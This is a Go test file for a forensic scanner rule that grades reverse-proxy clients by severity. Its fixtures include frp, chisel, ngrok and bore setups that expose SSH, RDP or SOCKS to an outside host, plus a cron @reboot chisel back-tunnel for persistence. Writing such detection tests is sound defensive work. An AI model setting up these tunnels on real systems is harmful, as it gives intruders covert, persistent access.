package shell

import (
	"testing"

	"github.com/strata-forensics/strata/audit"
)

// worstOf is the highest severity of rule's findings, 0 when there is none.
func worstOf(fs []audit.Finding, rule string) audit.Severity {
	var worst audit.Severity
	for _, f := range fs {
		if f.Rule == rule && f.Severity > worst {
			worst = f.Severity
		}
	}
	return worst
}

// TestProxyClients: reverse proxy clients told to publish this machine's remote access or a
// proxy into its network are high (critical where they run again), another service medium;
// servers, documentation and local forwards stay silent.
func TestProxyClients(t *testing.T) {
	h := "203.0.113.9"
	tests := []struct {
		name, path, text string
		want             audit.Severity // 0: no RS-026 finding
	}{
		{"frp ini written by a heredoc, http_proxy plugin", "/frpc/entrypoint.sh", "#!/bin/sh\ncat <<-EOF > /frpc/frpc.ini\n[common]\nserver_addr = ${server}\nserver_port = 7000\n\n[web]\ntype = tcp\nremote_port = 6060\nplugin = http_proxy\nEOF\n/frpc/frpc -c /frpc/frpc.ini\n", audit.High},
		{"frp ini by echo -e, sshd published, local port after remote", "/start.sh", "nohup /usr/sbin/sshd -D &&\necho -e \"[common]\\nserver_addr = " + h + "\\nserver_port = 7000\\n\\n[ssh]\\ntype = tcp\\nremote_port = 6000\\nlocal_ip = 127.0.0.1\\nlocal_port = 22\" >> /etc/frp/frpc.ini\n/frpc -c /etc/frp/frpc.ini\n", audit.High},
		{"frp toml, socks5 plugin", "/etc/frp/frpc.toml", "serverAddr = \"" + h + "\"\nserverPort = 7000\n\n[[proxies]]\nname = \"s5\"\ntype = \"tcp\"\nremotePort = 6005\n[proxies.plugin]\ntype = \"socks5\"\n", audit.High},
		{"frp yaml, socks5 plugin", "/etc/frp/frpc.yaml", "serverAddr: " + h + "\nproxies:\n  - name: s5\n    type: tcp\n    remotePort: 6005\n    plugin:\n      type: socks5\n", audit.High},
		{"frp toml, ssh", "/opt/.cache/c.toml", "serverAddr = \"" + h + "\"\nserverPort = 7000\n[[proxies]]\nname = \"ssh\"\ntype = \"tcp\"\nlocalIP = \"127.0.0.1\"\nlocalPort = 22\nremotePort = 6000\n", audit.High},
		{"frp yaml, rdp", "/etc/frp/frpc.yaml", "serverAddr: " + h + "\nserverPort: 7000\nproxies:\n  - name: rdp\n    type: tcp\n    localPort: 3389\n    remotePort: 6389\n", audit.High},
		{"frp ini publishing a web port", "/etc/frp/frpc.ini", "[common]\nserver_addr = " + h + "\nserver_port = 7000\n[web]\ntype = tcp\nlocal_port = 8080\nremote_port = 8080\n", audit.Medium},
		{"frp server settings", "/etc/frp/frps.ini", "[common]\nbind_port = 7000\nvhost_http_port = 80\ndashboard_port = 7500\n", 0},
		{"frp example in documentation", "/usr/share/doc/frp/examples/frpc_full.ini", "[common]\nserver_addr = 0.0.0.0\n[ssh]\ntype = tcp\nlocal_port = 22\nremote_port = 6000\n", 0},
		{"chisel socks back", "/usr/local/bin/c.sh", "#!/bin/sh\n/tmp/.c/chisel client " + h + ":8000 R:socks &\n", audit.High},
		{"chisel ssh back from cron", "/etc/cron.d/c", "@reboot root /opt/chisel client --auth u:p " + h + ":443 R:2222:localhost:22\n", audit.Critical},
		{"chisel local forward", "/usr/local/bin/db.sh", "#!/bin/sh\nchisel client " + h + ":8000 5432:db:5432\n", 0},
		{"ngrok publishing ssh", "/root/go.sh", "#!/bin/sh\nngrok tcp 22 --log=stdout > /dev/null &\n", audit.High},
		{"ngrok publishing a web app", "/root/dev.sh", "#!/bin/sh\nngrok http 3000\n", 0},
		{"bore publishing ssh", "/root/b.sh", "#!/bin/sh\nbore local 22 --to bore.example.net\n", audit.High},
	}
	for _, tc := range tests {
		fs := scanFile(tc.path, tc.text)
		if got := worstOf(fs, RuleProxyClient); got != tc.want {
			t.Errorf("%s: RS-026 at %v, want %v\n%s", tc.name, got, tc.want, dump(fs))
		}
	}
}
